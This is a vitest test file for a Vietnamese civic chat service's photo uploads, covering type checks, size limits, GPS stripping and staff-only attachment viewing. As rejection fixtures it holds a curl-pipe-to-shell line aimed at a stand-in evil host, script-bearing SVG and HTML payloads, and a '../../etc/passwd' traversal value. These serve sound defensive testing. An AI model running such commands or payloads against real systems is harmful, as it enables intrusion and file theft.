/**
 * Photos and place in the web chat, over HTTP as public/chat.js sends them: each photo uploaded on
 * its own (checked by content, at most 10 MB, its location removed unless the person shared theirs),
 * then the message that carries their references (at most 10) and the location; the report filed
 * keeps them as attachments that staff open on the report page. Every refusal says why in Vietnamese.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { PHOTO_LIMITS } from "../../../src/core/photos.js";
import type { KnowledgeBase } from "../../../src/knowledge/knowledge-base.js";
import { TOO_MANY_PHOTOS } from "../../../src/server/web/routes/chat.js";
import { openTestInbox } from "../../helpers/database.js";
import { openTestKnowledge } from "../../helpers/knowledge.js";
import { fixturePhoto, GPS_LATITUDE_BYTES, jpegWithGps } from "../../helpers/photos.js";
import { openTestWebApp, replyText, signedInStaff, WebChat, WebClient, type TestWebApp } from "../../helpers/web.js";

let knowledge: KnowledgeBase;
let app: TestWebApp;

const CHAT = { "x-tro-ly-chat": "1" };

beforeAll(async () => {
  knowledge = await openTestKnowledge();
  app = await openTestWebApp(knowledge, await openTestInbox());
}, 60_000);

/** Uploads a photo from `client`'s chat; the status and the answer. */
async function upload(client: WebClient, bytes: Buffer, query = ""): Promise<{ status: number; body: { photo?: { ref: string; type: string; size: number }; error?: string } }> {
  const response = await client.postBytes(`/chat/api/photos${query}`, bytes, CHAT);
  return { status: response.status, body: JSON.parse(response.body) as { photo?: { ref: string; type: string; size: number }; error?: string } };
}

describe("photo uploads", () => {
  it("take JPEG, PNG and WebP by their content, whatever the declared type", async () => {
    const client = new WebClient(app.server);
    for (const [ext, type] of [["jpg", "image/jpeg"], ["png", "image/png"], ["webp", "image/webp"]] as const) {
      const { status, body } = await upload(client, fixturePhoto(ext));
      expect(status).toBe(200);
      expect(body.photo!.type).toBe(type);
      expect(body.photo!.ref).toMatch(new RegExp(`^[A-Za-z0-9_-]+/[0-9a-f-]{36}\\.${ext}$`, "u"));
    }
  });

  it("refuse a script or an SVG renamed .jpg, saying it is not a photo", async () => {
    const client = new WebClient(app.server);
    for (const fake of ["#!/bin/sh\ncurl http://evil.example/x | sh\n", '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "<html><script>alert(1)</script></html>"]) {
      const response = await client.postBytes("/chat/api/photos", Buffer.from(fake), { ...CHAT, "content-type": "image/jpeg", "x-file-name": "anh.jpg" });
      expect(response.status).toBe(415);
      expect(JSON.parse(response.body).error).toMatch(/không phải ảnh JPEG, PNG hay WebP/u);
    }
  });

  it("take a photo just under the limit", async () => {
    const client = new WebClient(app.server);
    // A real JPEG followed by data up to 10 MB less a byte: large camera photos are this size.
    const photo = fixturePhoto("jpg");
    const large = Buffer.concat([photo, Buffer.alloc(PHOTO_LIMITS.maxBytes - photo.length - 1)]);
    const { status, body } = await upload(client, large);
    expect(status).toBe(200);
    expect(body.photo!.size).toBe(large.length);
  });

  it("refuse 30 MB before reading it, stating the limit", async () => {
    const client = new WebClient(app.server);
    const big = Buffer.alloc(30 * 1024 * 1024, 0xff);
    big.set([0xff, 0xd8, 0xff, 0xe0], 0);
    const { status, body } = await upload(client, big);
    expect(status).toBe(413);
    expect(body.error).toBe(`Ảnh lớn hơn ${PHOTO_LIMITS.maxBytes / 1024 / 1024} MB nên không gửi được. Bạn chọn ảnh nhỏ hơn, hoặc chụp lại với độ phân giải thấp hơn nhé.`);
  });

  it("remove the place a JPEG was taken, unless the person shared their location", async () => {
    const client = new WebClient(app.server);
    const located = jpegWithGps();
    const stripped = await upload(client, located);
    const kept = await app.uploads.fetch(stripped.body.photo!.ref);
    expect(Buffer.from(kept.bytes).includes(GPS_LATITUDE_BYTES)).toBe(false);
    expect(Buffer.from(kept.bytes).includes(Buffer.from("Tam K"))).toBe(false);
    expect(kept.contentType).toBe("image/jpeg");

    const shared = await upload(client, located, "?location=keep");
    expect(Buffer.from((await app.uploads.fetch(shared.body.photo!.ref)).bytes).equals(located)).toBe(true);
  });

  it("are refused without the chat page's header", async () => {
    const response = await new WebClient(app.server).postBytes("/chat/api/photos", fixturePhoto("jpg"));
    expect(response.status).toBe(403);
  });
});

describe("messages with photos", () => {
  it("take at most 10 photos: the 11th is refused with a message and nothing is sent", async () => {
    const client = new WebClient(app.server);
    const refs: string[] = [];
    for (let index = 0; index < 11; index++) refs.push((await upload(client, fixturePhoto("png"))).body.photo!.ref);
    const refused = await client.postJson("/chat/api/messages", { photos: refs, id: crypto.randomUUID() }, CHAT);
    expect(refused.status).toBe(400);
    expect(JSON.parse(refused.body).error).toBe(TOO_MANY_PHOTOS);
    expect(TOO_MANY_PHOTOS).toMatch(/tối đa 10 ảnh/u);
    const chat = new WebChat(client);
    await chat.say("/gopy");
    const accepted = await chat.send({ photos: refs.slice(0, 10) });
    expect(accepted.map(replyText).join("\n")).toContain("Đã nhận ảnh (10)");
  });

  it("only carry photos this chat uploaded", async () => {
    const other = new WebClient(app.server);
    const ref = (await upload(other, fixturePhoto("jpg"))).body.photo!.ref;
    const response = await new WebClient(app.server).postJson("/chat/api/messages", { photos: [ref], id: crypto.randomUUID() }, CHAT);
    expect(response.status).toBe(400);
    expect(JSON.parse(response.body).error).toMatch(/chọn lại ảnh/u);
    const traversal = await other.postJson("/chat/api/messages", { photos: ["../../etc/passwd"], id: crypto.randomUUID() }, CHAT);
    expect(traversal.status).toBe(400);
  });

  it("file a report with its photos and location, which staff see on the report page", async () => {
    const client = new WebClient(app.server);
    const chat = new WebChat(client);
    const photo = (await upload(client, jpegWithGps())).body.photo!.ref;
    await chat.say("/gopy");
    const located = await chat.send({ location: { latitude: 15.5736, longitude: 108.474 } });
    expect(located.map(replyText).join("\n")).toContain("Đã nhận vị trí");
    await chat.send({ photos: [photo], text: "Ổ gà lớn giữa đường Phan Châu Trinh, thành phố Tam Kỳ, xe máy ngã nhiều lần" });
    await chat.press("fb:topic:ha_tang");
    await chat.press("fb:area:none");
    await chat.press("fb:anon");
    await chat.press("fb:send");
    const code = /PA-\d{4}-\d{6}/u.exec(await chat.waitFor(/Mã theo dõi/u))![0];
    const report = (await app.inbox.reports.findByCode(code))!;
    expect(report).toMatchObject({ channel: "web", latitude: 15.5736, longitude: 108.474 });
    expect(report.attachments).toMatchObject([{ kind: "photo", channel: "web", ref: photo, download: null }]);
    expect(report.description).toContain("Ổ gà lớn");

    const staff = await signedInStaff(app, "xem.anh", "viewer");
    const href = `/inbox/${code}/attachments/${report.attachments[0]!.id}`;
    const page = await staff.get(`/inbox/${code}`);
    expect(page.body).toContain(`<img src="${href}"`);
    expect(page.body).toContain("qua Trang web");
    const file = await staff.get(href);
    expect(file.status).toBe(200);
    expect(file.headers["content-type"]).toBe("image/jpeg");
    expect(file.raw.includes(GPS_LATITUDE_BYTES)).toBe(false);
    expect(file.raw.subarray(0, 3).equals(Buffer.from([0xff, 0xd8, 0xff]))).toBe(true);
    // The public never reads an upload: the attachments route is for staff only.
    expect((await client.get(href)).status).not.toBe(200);
  });
});
